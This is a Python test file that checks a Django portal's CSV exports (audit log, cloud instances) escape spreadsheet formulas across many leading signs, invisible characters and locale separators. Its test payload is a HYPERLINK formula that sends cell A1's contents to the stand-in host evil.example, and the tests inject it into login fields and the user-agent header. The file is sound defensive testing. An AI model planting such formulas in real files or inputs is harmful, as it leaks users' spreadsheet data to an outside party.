"""Exported files contain no formulas, whatever members and ByCloud put into the fields."""

import csv
import re
from io import StringIO
from typing import Any

import pytest
from django.test import Client

from portal.accounts.models import Member
from portal.bycloud import BearerToken
from portal.core.csv_safety import escape_formula
from portal.sandbox.server import Sandbox
from tests.audit.rows import write
from tests.credentials.rows import keep
from tests.upstream import Upstream

SIGNS = ("=", "+", "-", "@", "\0=", " =", "＝", "＋", "－", "＠", "\u00a0=", "\u3000=", "\u200b=", "\ufeff=", "\u2003@")
# Where another cell begins, in a country that separates otherwise.
SEPARATORS = (";", "\t", ",", "\n", "\r", "\v", "|", "; ", ";\u00a0", ';"')
FORMULA = '{}HYPERLINK("https://evil.example/?"&A1,"x")'


def read_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]


def is_formula(cell: str) -> bool:
    """Whether it is one, or holds one for who opens the file with another separator."""
    blanks = ' \u00a0\u3000\u2003\u200b\ufeff\v\0"'
    return any(part.strip(blanks).startswith(tuple("=+-@\t\r\n＝＋－＠")) for part in re.split(r"[;,|\t\n\r\v]", cell))


@pytest.mark.parametrize("sign", SIGNS)
def test_a_cell_that_begins_as_a_formula_becomes_text(sign: str) -> None:
    assert escape_formula(FORMULA.format(sign)) == "'" + FORMULA.format(sign)


@pytest.mark.parametrize("separator", SEPARATORS)
def test_a_cell_of_another_country_s_becomes_text(separator: str) -> None:
    assert escape_formula(f"x{separator}=2+5") == f"x{separator}'=2+5"
    assert not is_formula(escape_formula(f"{separator}=2+5"))


def test_a_long_text_takes_no_longer_than_it_is() -> None:
    """A pattern that tries each place anew would take hours."""
    for sign in ' \t;,"\u00a0':
        assert escape_formula(f"x{sign * 300_000}y=").endswith("y=")


@pytest.mark.parametrize("text", ["", "web-01", "a=b", "1-2", "'=1", "x; y=1", "a;b-c", "2026-11-23 10:00 -x"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert escape_formula(text) == text


@pytest.mark.parametrize("sign", [*SIGNS, *(f"x{separator}=" for separator in SEPARATORS)])
def test_the_audit_as_a_file_holds_no_formula(client: Client, ada: Member, sign: str) -> None:
    client.force_login(ada)
    formula = FORMULA.format(sign)
    for login in (formula, f"{sign}1"):
        Client().post("/sign-in/", {"login": login, "password": "x"}, headers={"user-agent": formula.strip()})
    write(name=formula, subject=formula, user_agent=formula, address=formula[:45], request_id=formula[:64])
    response: Any = client.post("/audit/export/", {"format": "csv"})
    cells = read_cells(b"".join(response.streaming_content).decode("utf-8-sig"))
    assert sum("'" in cell for cell in cells) >= 5
    # What was typed is there only when it reads like a name.
    assert (f"'{sign}1" in cells) == (sign in {"+", "-", "@"})
    assert [cell for cell in cells if is_formula(cell)] == []


@pytest.mark.parametrize("sign", [*SIGNS, *(f"x{separator}=" for separator in SEPARATORS)])
def test_instances_as_a_file_hold_no_formula(
    client: Client, otto: Member, sandbox: Sandbox, upstream: Upstream, sign: str
) -> None:
    keep(otto, BearerToken("sandbox-acme-token"))
    client.force_login(otto)
    formula = FORMULA.format(sign)
    instance = {"id": formula, "name": formula, "status": formula, "tags": [formula], "flavor": {"name": formula}}
    upstream.script(times=None, body={"instances": [instance], "meta": {"total": 1, "has_more": False}})
    response = client.post("/spo1/instances/export/", {"format": "csv"})
    assert response.status_code == 200
    cells = read_cells(response.content.decode("utf-8-sig"))
    assert any("'" in cell for cell in cells)
    assert [cell for cell in cells if is_formula(cell)] == []
